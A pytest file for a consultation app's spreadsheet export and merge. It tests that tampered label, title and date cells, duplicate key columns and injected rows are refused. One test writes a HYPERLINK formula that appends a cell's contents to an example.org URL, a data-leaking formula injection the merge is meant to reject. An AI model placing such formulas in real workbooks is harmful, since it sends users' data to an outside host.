"""Issue 18, "workbooks people can read": the readable columns of format 3 (labels in the
export's language, each feedback entry's consultation) and what a hostile file can do with
them. Readable columns are not in the checksum: an edit there leaves the file "unchanged",
so the merge checks each one against the keys. A label that names another value, a title or
date that is not its consultation's, a second column under one key: refused, one line naming
file, sheet, row and column, nothing stored. A label this app's lists do not know: ignored,
with a warning naming its cell. Older formats (no readable columns) still merge.
"""

from __future__ import annotations

import datetime as dt
import re
import shutil
from pathlib import Path

import openpyxl
import pytest

from consultation_app.domain.records import CONSULTATION, FEEDBACK, NOTE
from consultation_app.exchange.export import export_package
from consultation_app.exchange.merge import MERGED, REJECTED, merge_paths
from consultation_app.exchange.readable_columns import sheet_layout
from consultation_app.exchange.workbook_format import CONSULTATIONS, FEEDBACK_SHEET, NOTES, SHEET_COLUMNS
from consultation_app.exchange.workbook_reader import read_export
from consultation_app.services.reference_lists import default_reference
from tests.conftest import REPO_ROOT, dump, edit_copy, query
from tests.forgery import row_of, sheet_keys
from tests.office import libreoffice_resave

CATALOG = "khm-upr3-ohchr-2019"
REFERENCE = default_reference()
FORMAT_2 = Path(REPO_ROOT) / "tests" / "fixtures" / "export-format-2.xlsx"


def laptop(open_ws, name: str = "laptop"):
    ws = open_ws(name, "Takeo laptop")
    c = ws.records.create(CONSULTATION, {"title": "Fishing communities, Takeo", "catalog_id": CATALOG,
                                         "stakeholder_group": "civil_society", "province": "takeo",
                                         "start_date": "2026-11-20", "languages": ["km", "en"],
                                         "consent_policy": "group_only"})
    made = {"c": c, "f": []}
    for n, (priority, assessment) in enumerate((("high", "partially_implemented"), ("low", None),
                                               (None, "not_implemented")), start=1):
        made["f"].append(ws.records.create(FEEDBACK, {
            "consultation_uuid": c["uuid"], "catalog_id": CATALOG, "recommendation_code": f"KH3-{n:02d}",
            "priority": priority, "implementation_assessment": assessment, "comment": f"comment {n}"}))
    made["n"] = ws.records.create(NOTE, {"consultation_uuid": c["uuid"], "title": "Land", "text": "Land titles"})
    return ws, made


def export(ws, path: Path, **options) -> Path:
    return export_package(ws.database_path, path, ws.reference, **options).path


def cells(path: Path, sheet: str, uuid: str) -> dict:
    """One record's row, every written column, by key."""
    book = openpyxl.load_workbook(path)
    try:
        keys, row = sheet_keys(book, sheet), row_of(book, sheet, uuid)
        return {key: book[sheet].cell(row, index + 1).value for index, key in enumerate(keys)}
    finally:
        book.close()


def where(path: Path, sheet: str, uuid: str, key: str) -> tuple[int, str]:
    book = openpyxl.load_workbook(path)
    try:
        column = sheet_keys(book, sheet).index(key) + 1
        return row_of(book, sheet, uuid), openpyxl.utils.get_column_letter(column)
    finally:
        book.close()


def set_cell(sheet: str, uuid: str, key: str, value):
    def change(book):
        book[sheet].cell(row_of(book, sheet, uuid), sheet_keys(book, sheet).index(key) + 1).value = value
    return change


def merge(central, *paths: Path):
    return merge_paths(central.database_path, list(paths), REFERENCE)


# -- what a person reads ---------------------------------------------------------------------------

@pytest.mark.parametrize("language, expected", [
    ("en", {"consultation_title": "Fishing communities, Takeo", "consultation_group_label": "Civil society",
            "consultation_province_label": "Takeo", "priority_label": "High",
            "implementation_assessment_label": "Partially implemented", "attribution_label": "Anonymous"}),
    ("km", {"consultation_title": "Fishing communities, Takeo", "consultation_group_label": "សង្គមស៊ីវិល",
            "consultation_province_label": "តាកែវ", "priority_label": "ខ្ពស់",
            "implementation_assessment_label": "បានអនុវត្តមួយផ្នែក", "attribution_label": "អនាមិក"}),
])
def test_feedback_rows_show_labels_and_their_consultation_with_the_keys_kept(open_ws, tmp_path, language,
                                                                              expected):
    ws, made = laptop(open_ws)
    path = export(ws, tmp_path / f"{language}.xlsx", language=language)
    row = cells(path, FEEDBACK_SHEET, made["f"][0]["uuid"])
    for key, value in expected.items():
        assert row[key] == value, key
    assert row["consultation_start_date"] == dt.datetime(2026, 11, 20)  # a real date cell
    assert (row["priority"], row["implementation_assessment"]) == ("high", "partially_implemented")
    consultation = cells(path, CONSULTATIONS, made["c"]["uuid"])
    assert consultation["province"] == "takeo" and consultation["province_label"] == expected[
        "consultation_province_label"]
    assert consultation["languages"] == "km, en"
    assert consultation["languages_label"] == ("Khmer, English" if language == "en" else "ភាសាខ្មែរ, ភាសាអង់គ្លេស")
    note = cells(path, NOTES, made["n"]["uuid"])
    assert note["consultation_title"] == "Fishing communities, Takeo"
    # The checksum covers the machine columns only: the same records give the same checksum in
    # either language, and the manifest says which language the labels are in.
    package = read_export(path, REFERENCE)
    assert package.checksum_matches and package.notices == []
    assert package.manifest["language"] == language and package.manifest["format_version"] == 3


def test_labels_come_first_and_the_keys_are_folded_at_the_right_out_of_print(open_ws, tmp_path):
    ws, made = laptop(open_ws)
    path = export(ws, tmp_path / "layout.xlsx")
    book = openpyxl.load_workbook(path)
    for name in (CONSULTATIONS, FEEDBACK_SHEET, NOTES):
        sheet, (columns, printed) = book[name], sheet_layout(name)
        keys = sheet_keys(book, name)
        assert keys == [column.key for column in columns]
        machine = {column.key for column in SHEET_COLUMNS[name]}
        readable = keys[:printed]
        # Every enumeration key is behind its label; nothing a person reads is a bare key.
        assert not any(key in machine and column.kind in ("enum", "enum_list")
                       for key, column in zip(readable, columns))
        levels = {}  # openpyxl reads alike neighbours as one dimension (min..max)
        for dimension in sheet.column_dimensions.values():
            for index in range(dimension.min, dimension.max + 1):
                levels[index] = (dimension.outline_level, dimension.hidden)
        for index, key in enumerate(keys, start=1):
            assert levels.get(index, (0, False)) == ((1, True) if index > printed else (0, False)), (name, key)
        assert sheet.print_area == [f"'{name}'!$A$1:${openpyxl.utils.get_column_letter(printed)}$"
                                    f"{sheet.max_row}"] or sheet.print_area.endswith(
            f"$A$1:${openpyxl.utils.get_column_letter(printed)}${sheet.max_row}"), sheet.print_area
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
        assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0  # 1 is the default
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$2" and sheet.freeze_panes == "B3"
        assert sheet.auto_filter.ref or sheet.tables, name
        assert readable, name
    assert sheet_keys(book, FEEDBACK_SHEET)[:4] == ["consultation_title", "consultation_start_date",
                                                    "consultation_group_label", "consultation_province_label"]
    book.close()


def test_a_deleted_consultation_lends_no_title_to_the_rows_that_travel(open_ws, tmp_path):
    """A tombstone carries no content (format 2): nor may the readable columns around it."""
    ws, made = laptop(open_ws)
    ws.records.delete(CONSULTATION, made["c"]["uuid"])
    path = export(ws, tmp_path / "deleted.xlsx")
    book = openpyxl.load_workbook(path)
    texts = {cell.value for sheet in (CONSULTATIONS, FEEDBACK_SHEET, NOTES) for row in book[sheet].iter_rows(min_row=3)
             for cell in row if isinstance(cell.value, str)}
    book.close()
    assert not any("Fishing" in text or "Takeo" in text for text in texts), texts


# -- hostile files -------------------------------------------------------------------------------------

def refused(open_ws, tmp_path, change, sheet: str, uuid_of, key: str, *fragments: str):
    """``change`` made to a fresh export: the merge refuses it with one line naming file, sheet,
    row and column, and the central office's data is as before."""
    ws, made = laptop(open_ws)
    original = export(ws, tmp_path / "original.xlsx")
    hostile = edit_copy(original, tmp_path / "hostile.xlsx", change(made))
    central = open_ws("central", "Central office")
    before = dump(central.database_path)
    (result,) = merge(central, hostile)
    assert result.status == REJECTED, result
    row, letter = where(hostile, sheet, uuid_of(made), key)
    assert result.message.startswith(f"hostile.xlsx, sheet '{sheet}', row {row}, column {letter} ({key}): "), \
        result.message
    assert "\n" not in result.message
    for fragment in fragments:
        assert fragment in result.message, (fragment, result.message)
    assert dump(central.database_path) == before
    return made, result


def test_a_label_naming_another_value_than_its_key_is_refused(open_ws, tmp_path):
    """The checksum matches (labels are not in it): without the check this merged as clean."""
    made, _ = refused(open_ws, tmp_path, lambda made: set_cell(FEEDBACK_SHEET, made["f"][0]["uuid"],
                                                                "priority_label", "Low"),
                      FEEDBACK_SHEET, lambda made: made["f"][0]["uuid"], "priority_label",
                      "'Low'", "priority", "'high'", "must agree with its key")


def test_a_khmer_label_naming_another_province_is_refused(open_ws, tmp_path):
    refused(open_ws, tmp_path, lambda made: set_cell(CONSULTATIONS, made["c"]["uuid"], "province_label", "កំពត"),
            CONSULTATIONS, lambda made: made["c"]["uuid"], "province_label", "'takeo'")


def test_a_label_over_an_empty_key_is_refused(open_ws, tmp_path):
    """The third entry has no priority: a label there would tell a reader one was given."""
    refused(open_ws, tmp_path, lambda made: set_cell(FEEDBACK_SHEET, made["f"][2]["uuid"], "priority_label", "High"),
            FEEDBACK_SHEET, lambda made: made["f"][2]["uuid"], "priority_label", "'High'")


def test_a_consultation_title_on_a_feedback_row_that_is_not_its_consultations_is_refused(open_ws, tmp_path):
    refused(open_ws, tmp_path,
            lambda made: set_cell(FEEDBACK_SHEET, made["f"][1]["uuid"], "consultation_title",
                                  "Meeting with detained defenders, Prey Sar"),
            FEEDBACK_SHEET, lambda made: made["f"][1]["uuid"], "consultation_title",
            "Fishing communities, Takeo", "must agree")


def test_a_consultation_date_that_is_not_its_consultations_is_refused(open_ws, tmp_path):
    refused(open_ws, tmp_path,
            lambda made: set_cell(NOTES, made["n"]["uuid"], "consultation_start_date", dt.datetime(2025, 1, 1)),
            NOTES, lambda made: made["n"]["uuid"], "consultation_start_date", "2025-01-01", "2026-11-20")


def test_a_province_label_on_a_feedback_row_naming_another_province_is_refused(open_ws, tmp_path):
    refused(open_ws, tmp_path,
            lambda made: set_cell(FEEDBACK_SHEET, made["f"][0]["uuid"], "consultation_province_label", "Kampot"),
            FEEDBACK_SHEET, lambda made: made["f"][0]["uuid"], "consultation_province_label", "'takeo'")


def test_a_formula_in_a_label_column_is_refused(open_ws, tmp_path):
    refused(open_ws, tmp_path,
            lambda made: set_cell(FEEDBACK_SHEET, made["f"][0]["uuid"], "priority_label",
                                  '=HYPERLINK("http://example.org/?"&A3,"High")'),
            FEEDBACK_SHEET, lambda made: made["f"][0]["uuid"], "priority_label", "a formula", "HYPERLINK")


def test_a_second_column_under_a_machine_key_is_refused(open_ws, tmp_path):
    """A readable column renamed to the key it restates: a person would read one column and
    the merge the other."""
    def rename(made):
        def change(book):
            keys = sheet_keys(book, FEEDBACK_SHEET)
            book[FEEDBACK_SHEET].cell(2, keys.index("priority_label") + 1).value = "priority"
        return change

    ws, made = laptop(open_ws)
    original = export(ws, tmp_path / "original.xlsx")
    book = openpyxl.load_workbook(original)
    keys = sheet_keys(book, FEEDBACK_SHEET)
    book.close()
    first = openpyxl.utils.get_column_letter(keys.index("priority_label") + 1)
    second = openpyxl.utils.get_column_letter(keys.index("priority") + 1)
    hostile = edit_copy(original, tmp_path / "hostile.xlsx", rename(made))
    central = open_ws("central", "Central office")
    before = dump(central.database_path)
    (result,) = merge(central, hostile)
    assert result.status == REJECTED
    assert result.message.startswith(f"hostile.xlsx, sheet '{FEEDBACK_SHEET}', row 2, column {second} (priority): "
                                     f"the key row holds priority twice (columns {first} and {second})"), \
        result.message
    assert dump(central.database_path) == before


def test_a_row_injected_through_the_label_columns_is_refused(open_ws, tmp_path):
    """A row that has only readable cells is a record without a key, not an extra line."""
    def add(made):
        def change(book):
            ws_, keys = book[FEEDBACK_SHEET], sheet_keys(book, FEEDBACK_SHEET)
            row = ws_.max_row + 1
            for key, value in (("consultation_title", "Fishing communities, Takeo"), ("priority_label", "High"),
                               ("comment", "a comment nobody made")):
                ws_.cell(row, keys.index(key) + 1).value = value
        return change

    ws, made = laptop(open_ws)
    original = export(ws, tmp_path / "original.xlsx")
    hostile = edit_copy(original, tmp_path / "hostile.xlsx", add(made))
    central = open_ws("central", "Central office")
    before = dump(central.database_path)
    (result,) = merge(central, hostile)
    assert result.status == REJECTED
    assert result.message.startswith(f"hostile.xlsx, sheet '{FEEDBACK_SHEET}': holds 4 rows but the manifest says 3")
    assert dump(central.database_path) == before


def test_a_label_the_lists_do_not_know_is_ignored_with_a_warning_naming_its_cell(open_ws, tmp_path):
    """A list corrected or translated since the file was written must not stop it merging:
    the key is what is stored; the warning names the cell."""
    ws, made = laptop(open_ws)
    original = export(ws, tmp_path / "original.xlsx")
    uuid = made["f"][0]["uuid"]
    edited = edit_copy(original, tmp_path / "old-spelling.xlsx",
                       set_cell(FEEDBACK_SHEET, uuid, "priority_label", "Very high (old spelling)"))
    row, letter = where(edited, FEEDBACK_SHEET, uuid, "priority_label")
    central = open_ws("central", "Central office")
    (result,) = merge(central, edited)
    assert result.status == MERGED and result.counts["new"] == 5
    assert any("old-spelling.xlsx, sheet 'feedback': label(s) this app's lists do not know, ignored" in warning
               and f"row {row}, column {letter} (priority_label): 'Very high (old spelling)'" in warning
               for warning in result.warnings), result.warnings
    assert query(central.database_path, "SELECT priority FROM feedback WHERE uuid = ?", [uuid]) == [("high",)]


def test_labels_in_the_other_language_or_deleted_columns_still_merge(open_ws, tmp_path):
    """A person may retype a label in Khmer, or delete the readable columns: the keys decide."""
    ws, made = laptop(open_ws)
    original = export(ws, tmp_path / "original.xlsx")

    def strip_readable(book):
        for name in (CONSULTATIONS, FEEDBACK_SHEET, NOTES):
            machine = {column.key for column in SHEET_COLUMNS[name]}
            keys = sheet_keys(book, name)
            for index in reversed(range(len(keys))):
                if keys[index] not in machine:
                    book[name].delete_cols(index + 1)

    khmer = edit_copy(original, tmp_path / "khmer.xlsx",
                      set_cell(FEEDBACK_SHEET, made["f"][0]["uuid"], "priority_label", "ខ្ពស់"))
    stripped = edit_copy(original, tmp_path / "stripped.xlsx", strip_readable)
    assert read_export(khmer, REFERENCE).notices == []
    central = open_ws("central", "Central office")
    first, second = merge(central, khmer, stripped)
    assert first.status == MERGED and first.warnings == []
    assert second.status == "already_merged"  # the same values: the same export


# -- older formats ---------------------------------------------------------------------------------------

def test_an_export_written_in_format_2_still_merges(open_ws, tmp_path):
    """tests/fixtures/export-format-2.xlsx: written by the app before format 3
    (tests/fixtures/make_export_format_2.py), with a tombstone; no readable columns."""
    copy = tmp_path / FORMAT_2.name
    shutil.copy(FORMAT_2, copy)
    package = read_export(copy, REFERENCE)
    assert package.manifest["format_version"] == 2 and package.checksum_matches
    assert "priority_label" not in sheet_keys_of(copy, FEEDBACK_SHEET)
    central = open_ws("central", "Central office")
    (result,) = merge(central, copy)
    assert result.status == MERGED, result
    assert result.counts["new"] == 4 and result.warnings == []
    rows = query(central.database_path, "SELECT title, province, stakeholder_group FROM consultations")
    assert rows == [("Fishing communities, Kampot", "kampot", "civil_society")]
    assert query(central.database_path, "SELECT priority, implementation_assessment FROM feedback "
                                        "WHERE deleted = 0") == [("high", "partially_implemented")]


def sheet_keys_of(path: Path, sheet: str) -> list:
    book = openpyxl.load_workbook(path)
    try:
        return sheet_keys(book, sheet)
    finally:
        book.close()


def test_a_khmer_export_resaved_by_libreoffice_merges_with_no_warning(open_ws, tmp_path):
    ws, made = laptop(open_ws)
    original = export(ws, tmp_path / "khmer.xlsx", language="km")
    converted = libreoffice_resave(original, tmp_path / "libreoffice", tmp_path / "lo-profile")
    package = read_export(converted, REFERENCE)
    assert package.checksum_matches and package.notices == []
    assert cells(converted, FEEDBACK_SHEET, made["f"][0]["uuid"])["priority_label"] == "ខ្ពស់"
    central = open_ws("central", "Central office")
    (result,) = merge(central, converted)
    assert result.status == MERGED and result.warnings == [] and result.counts["new"] == 5


# -- the master export and the command line ------------------------------------------------------------------

def test_the_master_export_shows_labels_and_each_entrys_consultation_in_the_chosen_language(open_ws, tmp_path,
                                                                                           capsys):
    from consultation_app.cli.main import EXIT_OK, main
    from consultation_app.exchange.master_export import write_master_export

    ws, made = laptop(open_ws)
    central = open_ws("central", "Central office")
    assert merge(central, export(ws, tmp_path / "laptop.xlsx"))[0].status == MERGED
    english = write_master_export(central.database_path, tmp_path / "master-en.xlsx", central.reference).path
    row = cells(english, FEEDBACK_SHEET, made["f"][0]["uuid"])
    assert (row["consultation_title"], row["consultation_group_label"], row["consultation_province_label"],
            row["priority_label"]) == ("Fishing communities, Takeo", "Civil society", "Takeo", "High")
    assert row["consultation_start_date"] == dt.datetime(2026, 11, 20) and row["priority"] == "high"
    assert cells(english, CONSULTATIONS, made["c"]["uuid"])["stakeholder_group_label"] == "Civil society"
    # The command line: --lang km.
    code = main(["--data-dir", str(central.database_path.parent), "master-export", "--out",
                 str(tmp_path / "master-km.xlsx"), "--lang", "km"])
    assert code == EXIT_OK, capsys.readouterr()
    row = cells(tmp_path / "master-km.xlsx", FEEDBACK_SHEET, made["f"][0]["uuid"])
    assert (row["consultation_province_label"], row["priority_label"]) == ("តាកែវ", "ខ្ពស់")
    book = openpyxl.load_workbook(tmp_path / "master-km.xlsx")
    keys = sheet_keys(book, FEEDBACK_SHEET)
    sheet = book[FEEDBACK_SHEET]
    assert keys[0] == "sensitive" and keys[1] == "consultation_title"
    assert sheet.print_area.endswith(f"$A$1:${openpyxl.utils.get_column_letter(keys.index('device_name') + 1)}$"
                                     f"{sheet.max_row}")
    book.close()


def test_the_export_command_takes_a_language(open_ws, tmp_path, capsys):
    from consultation_app.cli.main import EXIT_OK, main

    ws, made = laptop(open_ws)
    out = tmp_path / "km.xlsx"
    assert main(["--data-dir", str(ws.database_path.parent), "export", "--out", str(out), "--lang", "km"]) == EXIT_OK
    assert cells(out, FEEDBACK_SHEET, made["f"][0]["uuid"])["priority_label"] == "ខ្ពស់"
    with pytest.raises(SystemExit) as exited:  # a bad command line: exit code 2
        main(["--data-dir", str(ws.database_path.parent), "export", "--out", str(out), "--lang", "fr"])
    assert exited.value.code == 2
    capsys.readouterr()


# -- printed ----------------------------------------------------------------------------------------------------

def test_one_consultation_of_46_entries_prints_its_feedback_on_two_readable_pages(workspace, tmp_path):
    """Before format 3 the same file printed on 18 pages (the lists sheet alone on 8); format 3
    adds the consents and attachments sheets, a page each. The feedback prints the columns a
    reader needs (readable_columns.PRINTED) at a size people can read: with all fifteen readable
    columns on one A4 width its 9-point text printed 4.7 points high; now about 8."""
    import subprocess

    from consultation_app.services import demo

    soffice, pdftotext = shutil.which("soffice"), shutil.which("pdftotext")
    if not soffice or not pdftotext:
        pytest.skip("LibreOffice (soffice) or poppler (pdftotext) is not installed")
    demo.add_demo_data(workspace, 1, seed=6, feedback_mean=47)
    result = export_package(workspace.database_path, tmp_path / "one.xlsx", workspace.reference,
                            include_sensitive=True, language="km")
    assert result.counts["feedback"] == 46
    (tmp_path / "pdf").mkdir()
    subprocess.run([soffice, "--headless", f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
                    "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"), str(result.path)],
                   capture_output=True, timeout=180, check=True)
    text = subprocess.run([pdftotext, "-layout", str(tmp_path / "pdf" / "one.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    pages = text.split("\f")[:-1]
    footers = [page.strip().splitlines()[-1].split()[0] if page.strip() else "" for page in pages]
    assert len(pages) <= 11, footers
    assert footers.count("consents") == 1 and footers.count("attachments") == 1, footers
    assert footers.count("feedback") <= 2 and footers.count("lists") == 1, footers
    page = footers.index("feedback") + 1
    boxes = subprocess.run([pdftotext, "-f", str(page), "-l", str(page), "-bbox", str(tmp_path / "pdf" / "one.pdf"),
                            "-"], capture_output=True, text=True, check=True).stdout
    heights = sorted(float(bottom) - float(top) for top, bottom in
                     re.findall(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">[^<]*[a-z]{3}', boxes))
    assert len(heights) > 100 and heights[len(heights) // 2] >= 7.0, heights[len(heights) // 2]
